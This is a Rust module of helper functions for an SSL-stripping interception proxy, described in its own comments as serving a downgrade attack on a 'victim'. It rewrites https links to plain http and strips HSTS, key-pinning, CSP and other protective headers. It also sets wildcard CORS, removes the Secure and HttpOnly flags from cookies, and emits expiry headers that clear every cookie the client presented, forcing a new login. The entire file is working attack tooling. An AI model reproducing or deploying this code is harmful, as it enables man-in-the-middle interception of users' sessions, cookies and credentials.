//! Response rewriting helpers
//!
//! Pure functions over headers and bodies: downgrade `https://` links,
//! remove the headers browsers use to re-upgrade or pin connections, relax
//! CORS, and forge cookie rewrites and expiries.

use std::sync::OnceLock;

use cookie::Cookie;
use http::header::{HeaderMap, HeaderName, HeaderValue, SET_COOKIE};
use regex::Regex;
use time::OffsetDateTime;
use tracing::debug;

/// Response headers that would let the browser undo the downgrade.
static DROPPED_HEADERS: [HeaderName; 12] = [
    HeaderName::from_static("strict-transport-security"),
    HeaderName::from_static("public-key-pins"),
    HeaderName::from_static("public-key-pins-report-only"),
    HeaderName::from_static("content-security-policy"),
    HeaderName::from_static("content-security-policy-report-only"),
    HeaderName::from_static("x-frame-options"),
    HeaderName::from_static("x-content-type-options"),
    HeaderName::from_static("x-webkit-csp"),
    HeaderName::from_static("x-content-security-policy"),
    HeaderName::from_static("x-download-options"),
    HeaderName::from_static("x-permitted-cross-domain-policies"),
    HeaderName::from_static("x-xss-protection"),
];

fn link_regex() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"https://[a-zA-Z0-9][a-zA-Z0-9.\-]*").unwrap())
}

/// Remove security headers the downgrade must not leak through.
pub fn strip_security_headers(headers: &mut HeaderMap) {
    for name in &DROPPED_HEADERS {
        headers.remove(name);
    }
}

/// Relax the response's cross-origin policy completely.
pub fn set_permissive_cors(headers: &mut HeaderMap) {
    headers.insert(
        HeaderName::from_static("access-control-allow-origin"),
        HeaderValue::from_static("*"),
    );
    headers.insert(
        HeaderName::from_static("allow-access-from-same-origin"),
        HeaderValue::from_static("*"),
    );
}

/// Rewrite every `https://host` occurrence to `http://host` and return the
/// new text together with the distinct hostnames that were downgraded.
pub fn rewrite_https_links(text: &str) -> (String, Vec<String>) {
    let mut hosts = Vec::new();
    let rewritten = link_regex().replace_all(text, |caps: &regex::Captures<'_>| {
        let link = &caps[0];
        let host = link["https://".len()..].to_string();
        if !hosts.contains(&host) {
            hosts.push(host);
        }
        format!("http://{}", &link["https://".len()..])
    });
    (rewritten.into_owned(), hosts)
}

/// Punycode (ASCII-compatible) form of a hostname.
pub fn ascii_hostname(host: &str) -> String {
    idna::domain_to_ascii(host).unwrap_or_else(|_| host.to_lowercase())
}

/// The registrable domain of `host` (public suffix plus one label), or the
/// host itself when it has no known suffix (bare names, IP literals).
pub fn registrable_domain(host: &str) -> String {
    psl::domain_str(host)
        .map(str::to_string)
        .unwrap_or_else(|| host.to_lowercase())
}

/// Repoint `Set-Cookie` domains at the downgraded registrable domain and
/// drop the attributes a plain-HTTP victim could not satisfy.
pub fn fix_set_cookies(headers: &mut HeaderMap, registrable: &str) {
    let mut fixed = Vec::new();
    for value in headers.get_all(SET_COOKIE) {
        let Ok(text) = value.to_str() else {
            fixed.push(value.clone());
            continue;
        };
        let Ok(mut cookie) = Cookie::parse(text.to_string()) else {
            fixed.push(value.clone());
            continue;
        };

        let mismatched = cookie
            .domain()
            .map(|d| !d.trim_start_matches('.').eq_ignore_ascii_case(registrable))
            .unwrap_or(false);
        if mismatched {
            debug!(cookie = %cookie.name(), domain = %registrable, "Repointing cookie domain");
            cookie.set_domain(registrable.to_string());
        }
        cookie.set_secure(false);
        cookie.set_http_only(false);

        match HeaderValue::from_str(&cookie.to_string()) {
            Ok(v) => fixed.push(v),
            Err(_) => fixed.push(value.clone()),
        }
    }

    headers.remove(SET_COOKIE);
    for value in fixed {
        headers.append(SET_COOKIE, value);
    }
}

/// `Set-Cookie` lines expiring every cookie the client presented, both for
/// the registrable domain and for the exact host.
pub fn expired_cookie_headers(cookie_header: &str, registrable: &str, host: &str) -> Vec<String> {
    let mut lines = Vec::new();
    for cookie in Cookie::split_parse(cookie_header.to_string()).flatten() {
        for domain in [registrable, host] {
            let mut expired = Cookie::new(cookie.name().to_string(), "EXPIRED");
            expired.set_path("/");
            expired.set_domain(domain.to_string());
            expired.set_expires(OffsetDateTime::UNIX_EPOCH);
            lines.push(expired.to_string());
        }
    }
    lines
}
